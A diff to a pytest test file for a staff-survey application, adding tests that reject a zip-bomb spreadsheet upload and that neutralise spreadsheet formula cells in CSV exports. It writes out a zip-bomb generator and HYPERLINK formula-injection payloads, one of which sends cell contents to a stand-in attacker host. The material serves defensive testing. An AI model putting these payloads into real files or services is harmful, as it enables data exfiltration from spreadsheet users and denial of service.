@@ -4,16 +4,23 @@ and nothing is half-written."""
 from __future__ import annotations
 
 import asyncio
+import csv
+import io
+import zipfile
+from datetime import UTC, datetime, timedelta
 
 import pytest
 from click.testing import CliRunner
 from sqlalchemy import func, select
 
 from conftest import NEXT_YEAR
-from helpers import csrf_from, employee_answers, open_survey
+from helpers import csrf_from, employee_answers, log_in, open_survey, post_form
+from survey.accounts.api_tokens import create_api_token
 from survey.cli import main
 from survey.db.engine import Database
-from survey.db.models import InternalResponse, Invitation
+from survey.db.models import Employee, InternalResponse, Invitation, Unit
+from survey.imports.tabular import spreadsheet_cell, write_csv
+from survey.rounds.lifecycle import create_round
 
 
 @pytest.mark.parametrize("round_field", ["9" * 5000, str(2**63), "2147483648", "²", "-1", ""])
@@ -113,3 +120,94 @@ def test_one_failing_submission_in_a_batch_fails_alone(db):
             "a",
             "c",
         }
+
+
+# --- Secrets and spreadsheets -------------------------------------------------------------------------------
+
+
+def zip_bomb(expanded_mb: int) -> bytes:
+    """An .xlsx-shaped archive whose shared strings unpack to `expanded_mb` MB of one repeated character: a
+    few hundred KB packed."""
+    packed = io.BytesIO()
+    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
+        archive.writestr("[Content_Types].xml", "<Types/>")
+        with archive.open("xl/sharedStrings.xml", "w", force_zip64=True) as member:
+            chunk = b"A" * (1024 * 1024)
+            for _ in range(expanded_mb):
+                member.write(chunk)
+    return packed.getvalue()
+
+
+@pytest.mark.parametrize(
+    ("expanded_mb", "message"),
+    [(150, "unpacks to 150 MB, more than the 100 MB"), (3, "unpacks 1,0")],
+)
+def test_a_zip_bomb_workbook_is_refused_before_it_is_unpacked(
+    client, db, org, tmp_path, expanded_mb, message
+):
+    bomb = zip_bomb(expanded_mb)
+    assert len(bomb) < 200_000
+    with db.session() as session:
+        _, token = create_api_token(session, "hr-system", ["roster:write"], None, datetime.now(UTC))
+    answer = client.post(
+        "/api/roster",
+        files=[("files", ("staff.xlsx", bomb, "application/octet-stream"))],
+        headers={"Authorization": f"Bearer {token}"},
+    )
+    assert answer.status_code == 422, answer.text
+    [problem] = answer.json()["problems"]
+    assert problem["file"] == "staff.xlsx" and message in problem["message"]
+    path = tmp_path / "staff.xlsx"
+    path.write_bytes(bomb)
+    env = {"SURVEY_DATABASE_URL": db.url, "SURVEY_SECRET_KEY": "a-test-secret"}
+    cli = CliRunner().invoke(main, ["roster", "import", str(path)], env=env)
+    assert cli.exit_code == 2 and "staff.xlsx" in cli.output and message in cli.output, cli.output
+
+
+def test_exported_links_neutralise_formula_cells(client, db, people):
+    """An address a spreadsheet would run as a formula comes out as text, in the page's export and the CLI's."""
+    with db.session() as session:
+        team_id = session.execute(select(Unit.id).where(Unit.code == "FL1")).scalar_one()
+        session.add(Employee(email="=1+2@example.com", name='=HYPERLINK("http://evil","x")', unit_id=team_id))
+        session.add(Employee(email="-3+4@example.com", name="Minus", unit_id=team_id))
+        session.commit()
+        now = datetime.now(UTC)
+        a_round = create_round(session, "Manual", now - timedelta(days=1), now + timedelta(days=5))
+    log_in(client, people.hr)
+    page = f"/admin/rounds/{a_round.id}"
+    export = post_form(client, page, f"{page}/links")
+    emails = [row["email"] for row in csv.DictReader(io.StringIO(export.text))]
+    assert "'=1+2@example.com" in emails and "'-3+4@example.com" in emails
+    assert not any(email.startswith(("=", "+", "-", "@")) for email in emails)
+
+
+def test_spreadsheet_cells_are_neutralised_and_numbers_stay_numbers():
+    out = io.StringIO()
+    write_csv(out, [("name", "n"), ('=HYPERLINK("http://evil.example/?x="&A2,"x")', -3), ("@SUM(A1)", 2.5)])
+    out.seek(0)
+    rows = list(csv.reader(out))
+    assert rows[1] == ['\'=HYPERLINK("http://evil.example/?x="&A2,"x")', "-3"]
+    assert rows[2] == ["'@SUM(A1)", "2.5"]
+    for start in ("=", "+", "-", "@", "\t", "\r"):
+        assert spreadsheet_cell(f"{start}cmd") == f"'{start}cmd"
+    assert spreadsheet_cell(-3) == -3 and spreadsheet_cell("Ann") == "Ann"
+
+
+def test_text_responses_carry_one_charset(client, db, people):
+    log_in(client, people.hr)
+    with db.session() as session:
+        now = datetime.now(UTC)
+        a_round = create_round(session, "Manual", now - timedelta(days=1), now + timedelta(days=5))
+    page = f"/admin/rounds/{a_round.id}"
+    answers = {
+        "css": client.get("/reports/assets/report.css"),
+        "csv": post_form(client, page, f"{page}/links"),
+        "example csv": client.get("/admin/imports/examples/units.csv"),
+        "page": client.get("/admin"),
+    }
+    for what, answer in answers.items():
+        assert answer.status_code in (200, 201), what
+        assert answer.headers["content-type"].lower().count("charset") == 1, (
+            what,
+            answer.headers["content-type"],
+        )
